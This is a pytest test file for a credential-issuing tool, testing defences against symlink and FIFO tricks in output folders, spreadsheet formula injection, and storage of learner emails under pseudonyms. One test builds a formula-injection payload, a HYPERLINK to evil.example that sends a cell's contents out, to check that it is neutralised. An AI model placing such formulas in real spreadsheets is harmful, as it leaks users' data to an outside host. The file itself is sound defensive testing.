"""Issue 10, classes 5 and 6: a cohort run writes only where the user meant (no symbolic link planted in
the out-dir redirects a write, devices and FIFOs are never replaced, summary cells cannot run as
spreadsheet formulas), and stores no learner's email by default (keyed pseudonyms, opaque file names,
private ledger and journal), while reruns over out-dirs and ledgers of the previous release still work."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import stat
import threading
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cohort_support import check_credential, check_proof, make_issuer, write_cohort
from microcred import _files
from microcred.cohort.journal import JOURNAL_NAME
from microcred.cohort.output import LOCK_NAME, credential_file_name, write_file
from microcred.cohort.privacy import Pseudonyms, is_pseudonym
from microcred.cohort.rows import scan_cohort
from microcred.cohort.run import issue_many
from microcred.cohort.summary import FORMULA_STARTS, cell_value, csv_cell, iter_summary
from microcred.errors import MicrocredError
from microcred.keys.files import load_key
from microcred.keys.material import generate_key
from microcred.ledger.protocol import Ledger
from microcred.model.definition import load_definition

STATUS = "https://example.edu/status"
LEARNERS = 6


@pytest.fixture(scope="module")
def issuer(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("issuer")
    definition_path, key_path = make_issuer(folder)
    return load_definition(definition_path), load_key(key_path)


def run(issuer, tmp_path: Path, out: Path, **options):
    definition, key = issuer
    cohort = tmp_path / "cohort.csv"
    if not cohort.exists():
        write_cohort(cohort, LEARNERS)
    return issue_many(definition, scan_cohort(cohort), key, out_dir=out, workers=1, **options)


def emails(n: int = LEARNERS) -> list[str]:
    return [f"learner{i:06d}@example.org" for i in range(n)]


def credential_files(out: Path) -> list[Path]:
    return sorted(p for p in out.iterdir() if p.suffix in (".json", ".jwt"))


# ---------------------------------------------------------------------- class 5: symbolic links


def test_a_journal_link_planted_in_the_out_dir_is_not_followed(issuer, tmp_path: Path) -> None:
    out, victim = tmp_path / "out", tmp_path / "elsewhere.txt"
    out.mkdir()
    victim.write_bytes(b"precious\n")
    (out / JOURNAL_NAME).symlink_to(victim)
    with pytest.raises(MicrocredError, match="symbolic link") as caught:
        run(issuer, tmp_path, out)
    assert caught.value.code == "output.unsafe_path"
    assert victim.read_bytes() == b"precious\n"


def test_a_lock_link_planted_in_the_out_dir_is_not_followed(issuer, tmp_path: Path) -> None:
    out, victim = tmp_path / "out", tmp_path / "elsewhere.txt"
    out.mkdir()
    victim.write_bytes(b"precious\n")
    (out / LOCK_NAME).symlink_to(victim)
    with pytest.raises(MicrocredError, match="symbolic link"):
        run(issuer, tmp_path, out)
    assert victim.read_bytes() == b"precious\n"
    assert not credential_files(out)


def test_a_dangling_journal_link_creates_nothing_elsewhere(issuer, tmp_path: Path) -> None:
    out, target = tmp_path / "out", tmp_path / "created-by-the-run"
    out.mkdir()
    (out / JOURNAL_NAME).symlink_to(target)
    with pytest.raises(MicrocredError):
        run(issuer, tmp_path, out)
    assert not target.exists()


def test_a_summary_folder_link_is_refused(issuer, tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (elsewhere / "summary.csv").write_text("keep me\n", encoding="utf-8")
    (out / "summary").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(MicrocredError, match="symbolic link") as caught:
        run(issuer, tmp_path, out)
    assert caught.value.code == "output.unsafe_path"
    assert sorted(p.name for p in elsewhere.iterdir()) == ["summary.csv"]
    assert (elsewhere / "summary.csv").read_text(encoding="utf-8") == "keep me\n"


def test_a_credential_file_link_is_replaced_not_followed(issuer, tmp_path: Path) -> None:
    _, key = issuer
    out, victim = tmp_path / "out", tmp_path / "elsewhere.json"
    out.mkdir()
    victim.write_bytes(b"precious\n")
    name = Pseudonyms(key).file_stem(emails()[0]) + ".json"
    (out / name).symlink_to(victim)
    summary = run(issuer, tmp_path, out)
    assert summary.issued == LEARNERS
    assert victim.read_bytes() == b"precious\n"
    assert not (out / name).is_symlink() and check_proof(out / name) == (True, "ok")


def test_a_fifo_planted_as_a_credential_file_does_not_hang_a_rerun(issuer, tmp_path: Path) -> None:
    _, key = issuer
    out = tmp_path / "out"
    assert run(issuer, tmp_path, out).issued == LEARNERS
    name = Pseudonyms(key).file_stem(emails()[1]) + ".json"
    (out / name).unlink()
    os.mkfifo(out / name)
    with pytest.raises(MicrocredError, match="FIFO") as caught:  # neither read (it would block) nor replaced
        run(issuer, tmp_path, out)
    assert caught.value.code == "output.not_regular"
    assert stat.S_ISFIFO(os.lstat(out / name).st_mode)


# ------------------------------------------------------------- class 5: devices and FIFOs stay


def _read_fifo(path: Path, into: list[bytes]) -> threading.Thread:
    def reader() -> None:
        with open(path, "rb") as handle:
            into.append(handle.read())

    thread = threading.Thread(target=reader, daemon=True)
    thread.start()
    return thread


def test_write_atomic_writes_into_a_fifo_instead_of_replacing_it(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    thread = _read_fifo(fifo, got)
    _files.write_atomic(fifo, b"a signed credential\n")
    thread.join(timeout=30)
    assert got == [b"a signed credential\n"]
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # still the FIFO: not unlinked, not a regular file
    assert [p.name for p in tmp_path.iterdir()] == ["pipe"]


def test_the_cli_output_to_a_fifo_keeps_the_fifo(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from microcred.cli import main

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    thread = _read_fifo(fifo, got)
    result = CliRunner().invoke(main, ["keygen", "--force", "-o", str(fifo)])
    thread.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert json.loads(got[0])  # the key file went through the pipe


def test_write_atomic_refuses_a_folder_and_a_cohort_file_refuses_a_fifo(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    with pytest.raises(MicrocredError, match="not a regular file") as caught:
        _files.write_atomic(tmp_path / "folder", b"x")
    assert caught.value.code == "output.not_regular"
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(MicrocredError, match="FIFO"):
        write_file(tmp_path / "pipe", b"x")
    assert stat.S_ISFIFO(os.lstat(tmp_path / "pipe").st_mode)


def test_write_atomic_still_replaces_a_regular_file_and_a_link(tmp_path: Path) -> None:
    (tmp_path / "f").write_bytes(b"old")
    _files.write_atomic(tmp_path / "f", b"new")
    assert (tmp_path / "f").read_bytes() == b"new"
    (tmp_path / "target").write_bytes(b"keep")
    (tmp_path / "link").symlink_to(tmp_path / "target")
    _files.write_atomic(tmp_path / "link", b"new")
    assert (tmp_path / "target").read_bytes() == b"keep" and not (tmp_path / "link").is_symlink()


# ------------------------------------------------------------ class 5: spreadsheet formulas


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_summary_cells_cannot_be_formulas(issuer, tmp_path: Path, start: str) -> None:
    definition, key = issuer
    row_key = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    cohort = tmp_path / "cohort.csv"
    with open(cohort, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["email", "row_key"], ["ann@example.org", row_key]])
    out = tmp_path / "out"
    issue_many(definition, scan_cohort(cohort), key, out_dir=out, workers=1, plain_names=True)
    with open(out / "summary" / "summary.csv", encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert all(not cell.startswith(tuple("=+-@\t\r")) for cell in cells), cells
    expected = row_key.strip()  # the CSV reader strips cells; the cell-level unit test covers tab and CR
    assert [r.row_key for r in iter_summary(out)] == [expected]  # read back exactly
    rows = json.loads((out / "summary" / "summary.json").read_text(encoding="utf-8"))["rows"]
    assert [r["row_key"] for r in rows] == [expected]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_csv_cell_is_safe_and_reversible(value: str) -> None:
    cell = csv_cell(value)
    assert not cell.startswith(FORMULA_STARTS[:-1])
    assert cell_value(cell) == (value or None)


# ---------------------------------------------------------------- class 6: privacy by default


def test_no_email_is_stored_or_used_as_a_name_by_default(issuer, tmp_path: Path) -> None:
    out, ledger_path = tmp_path / "out", tmp_path / "ledger.db"
    with Ledger.open(ledger_path) as ledger:
        summary = run(issuer, tmp_path, out, ledger=ledger, status_base_url=STATUS)
        records = [r for r in ledger.credentials() if r.state == "issued"]
    assert summary.issued == LEARNERS
    assert len(records) == LEARNERS
    for record in records:
        assert is_pseudonym(record.recipient) and is_pseudonym(record.row_key or ""), record
    stored = [
        out / JOURNAL_NAME,
        out / "summary" / "summary.csv",
        out / "summary" / "summary.json",
    ]
    for path in stored:
        text = path.read_text(encoding="utf-8")
        assert "@example.org" not in text and "learner000" not in text, path.name
    with sqlite3.connect(ledger_path) as db:  # the signed documents hold only a salted identityHash
        dump = "\n".join(db.iterdump())
    assert not any(email in dump for email in emails()), "an email is stored in the ledger"
    names = [p.name for p in credential_files(out)]
    assert len(names) == LEARNERS
    assert all(n.startswith("learner-") and "example" not in n for n in names)
    for path in (ledger_path, out / JOURNAL_NAME):
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path.name
    assert all(check_proof(p) == (True, "ok") for p in credential_files(out))


def test_reruns_match_by_pseudonym(issuer, tmp_path: Path) -> None:
    out, ledger_path = tmp_path / "out", tmp_path / "ledger.db"
    assert run(issuer, tmp_path, out).issued == LEARNERS  # journal only
    again = run(issuer, tmp_path, out)
    assert (again.issued, again.skipped_existing) == (0, LEARNERS)
    with Ledger.open(ledger_path) as ledger:
        first = run(issuer, tmp_path, tmp_path / "out2", ledger=ledger, status_base_url=STATUS)
        second = run(issuer, tmp_path, tmp_path / "out2", ledger=ledger, status_base_url=STATUS)
    assert (first.issued, second.issued, second.skipped_existing) == (LEARNERS, 0, LEARNERS)


def test_plain_names_is_an_explicit_choice(issuer, tmp_path: Path) -> None:
    out = tmp_path / "out"
    run(issuer, tmp_path, out, plain_names=True)
    names = sorted(p.name for p in credential_files(out))
    assert names == sorted(credential_file_name(e) + ".json" for e in emails())
    assert [r.recipient for r in iter_summary(out)] == emails()
    lines = (out / JOURNAL_NAME).read_text(encoding="utf-8").splitlines()
    assert all(is_pseudonym(json.loads(line)["k"]) for line in lines)  # the keys stay pseudonyms


def test_pseudonyms_are_per_issuer_and_stable(issuer) -> None:
    _, key = issuer
    assert Pseudonyms(key).of("ann@example.org") == Pseudonyms(key).of("ann@example.org")
    assert Pseudonyms(key).of("ann@example.org") != Pseudonyms(key).of("bob@example.org")
    other = generate_key("Ed25519")
    assert Pseudonyms(other).of("ann@example.org") != Pseudonyms(key).of("ann@example.org")
    assert is_pseudonym(Pseudonyms(key).of("x")) and not is_pseudonym("ann@example.org")


def test_an_out_dir_of_the_previous_release_is_still_rerun_idempotently(issuer, tmp_path: Path) -> None:
    """The previous release's journal held the plain row key and named files after it: rewrite a
    journal to that form and rerun: every row is skipped, nothing is issued twice."""
    out = tmp_path / "out"
    run(issuer, tmp_path, out, plain_names=True)
    journal = out / JOURNAL_NAME
    pseudonyms = Pseudonyms(issuer[1])
    by_pseudonym = {pseudonyms.of(e): e for e in emails()}
    lines = [json.loads(line) for line in journal.read_text(encoding="utf-8").splitlines()]
    journal.write_text(
        "".join(json.dumps({**line, "k": by_pseudonym[line["k"]]}) + "\n" for line in lines), encoding="utf-8"
    )
    before = {p.name: p.read_bytes() for p in credential_files(out)}
    again = run(issuer, tmp_path, out)
    assert (again.issued, again.skipped_existing, again.failed) == (0, LEARNERS, 0)
    assert {p.name: p.read_bytes() for p in credential_files(out)} == before


def test_a_ledger_of_the_previous_release_is_still_rerun_idempotently(issuer, tmp_path: Path) -> None:
    out, ledger_path = tmp_path / "out", tmp_path / "ledger.db"
    with Ledger.open(ledger_path) as ledger:
        run(issuer, tmp_path, out, ledger=ledger, status_base_url=STATUS, plain_names=True)
    pseudonyms = Pseudonyms(issuer[1])
    with sqlite3.connect(ledger_path) as db:  # as the previous release recorded them: plain
        for email in emails():
            db.execute(
                "UPDATE credentials SET row_key = ?, recipient = ? WHERE row_key = ?",
                (email, email, pseudonyms.of(email)),
            )
    with Ledger.open(ledger_path) as ledger:
        again = run(issuer, tmp_path, out, ledger=ledger, status_base_url=STATUS)
        issued = [r for r in ledger.credentials() if r.state == "issued"]
    assert (again.issued, again.skipped_existing, again.failed) == (0, LEARNERS, 0)
    assert len(issued) == LEARNERS


def test_a_credential_of_the_previous_release_still_verifies() -> None:
    """Issued by ``microcred issue --cohort`` at main 8b0093a, before pseudonyms (see the README beside
    it): it keeps verifying, proof, schema, dates and all."""
    path = Path(__file__).parent / "vectors" / "microcred-pre-issue-10" / "cohort-credential.json"
    assert check_credential(path) == (True, "")


def test_a_credential_file_swapped_for_a_link_is_not_trusted_on_a_rerun(issuer, tmp_path: Path) -> None:
    """Even a link to an exact copy elsewhere: the rerun does not read through it, and puts its own
    file back in place of the link."""
    _, key = issuer
    out, elsewhere = tmp_path / "out", tmp_path / "copy.json"
    assert run(issuer, tmp_path, out).issued == LEARNERS
    name = Pseudonyms(key).file_stem(emails()[2]) + ".json"
    elsewhere.write_bytes((out / name).read_bytes())
    (out / name).unlink()
    (out / name).symlink_to(elsewhere)
    again = run(issuer, tmp_path, out)
    assert (again.issued, again.skipped_existing) == (1, LEARNERS - 1)
    assert not (out / name).is_symlink() and check_proof(out / name) == (True, "ok")


# ------------------------------------------------- class 10: a generated hostile out-dir, kept closed

_PLACES = [JOURNAL_NAME, LOCK_NAME, "summary", "summary/summary.csv", "summary/summary.json", "LEARNER"]
_THINGS = ["link", "dangling", "fifo", "folder", "file"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(plants=st.lists(st.tuples(st.sampled_from(_PLACES), st.sampled_from(_THINGS)), min_size=1, max_size=3))
def test_whatever_is_planted_in_the_out_dir_nothing_outside_changes(
    issuer, tmp_path_factory: pytest.TempPathFactory, plants: list[tuple[str, str]]
) -> None:
    """Links, dangling links, FIFOs, folders and stray files at every name a run uses: the run either
    completes or stops with an error (never hangs, never a traceback of its own), and nothing outside
    the out-dir is written, created or removed."""
    _, key = issuer
    tmp = tmp_path_factory.mktemp("hostile")
    out, victim, absent = tmp / "out", tmp / "victim", tmp / "absent"
    out.mkdir()
    victim.write_bytes(b"precious\n")
    learner = Pseudonyms(key).file_stem(emails()[0]) + ".json"
    for place, thing in plants:
        path = out / (learner if place == "LEARNER" else place)
        folder = out / "summary"
        if place.startswith("summary/") and not folder.is_symlink() and not folder.exists():
            folder.mkdir()
        if path.is_symlink() or path.exists() or not path.parent.is_dir() or path.parent.is_symlink():
            continue
        if thing == "link":
            path.symlink_to(victim)
        elif thing == "dangling":
            path.symlink_to(absent)
        elif thing == "fifo":
            os.mkfifo(path)
        elif thing == "folder":
            path.mkdir()
        else:
            path.write_bytes(b"not ours\n")
    try:
        summary = run(issuer, tmp, out)
    except MicrocredError as exc:  # a clear refusal, naming the path
        assert str(out) in str(exc)
    else:
        assert summary.issued + summary.skipped_existing == LEARNERS
    assert victim.read_bytes() == b"precious\n"
    assert not absent.exists()
    assert sorted(p.name for p in tmp.iterdir()) == sorted(["out", "victim", "cohort.csv"])
